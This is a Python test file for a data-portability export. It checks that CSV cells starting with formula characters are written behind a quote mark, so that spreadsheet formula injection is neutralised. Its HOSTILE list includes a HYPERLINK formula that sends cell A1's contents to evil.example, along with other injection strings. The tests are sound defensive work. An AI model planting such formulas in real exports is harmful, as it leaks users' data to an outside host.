"""The portability package's CSVs never carry a live spreadsheet formula (issue 21: a name
`=HYPERLINK(…)` and a phone `+55…` were written as formulas): a cell starting with
= + - @, a tab or a carriage return is written behind a quote mark; the JSON keeps the
values as they are."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from application.portability import portable_package, to_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
    "+5511999990000",
    "-2+3",
    "@SUM(1+1)",
    "\tcmd",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_quoted_text(text):
    [header, row] = list(csv.reader(io.StringIO(to_csv([{"name": text}]), newline="")))
    assert header == ["name"]
    assert row == ["'" + text]


def test_plain_text_numbers_and_amounts_are_written_as_they_are():
    rows = [{"name": "Ana Souza", "city": "São Paulo", "amount": "89.90", "count": 3}]
    [_, row] = list(csv.reader(io.StringIO(to_csv(rows))))
    assert row == ["Ana Souza", "São Paulo", "89.90", "3"]


def test_the_package_neutralises_every_csv_and_keeps_the_json_exact():
    document = {
        "profile": {"name": HOSTILE[0], "phone": HOSTILE[1]},
        "addresses": [{"line1": HOSTILE[3], "city": "Recife"}],
        "returns": [{"reason": HOSTILE[2]}],
    }
    package = zipfile.ZipFile(io.BytesIO(portable_package(document)))
    for name in package.namelist():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(package.read(name).decode(), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert json.loads(package.read("personal-data.json")) == document
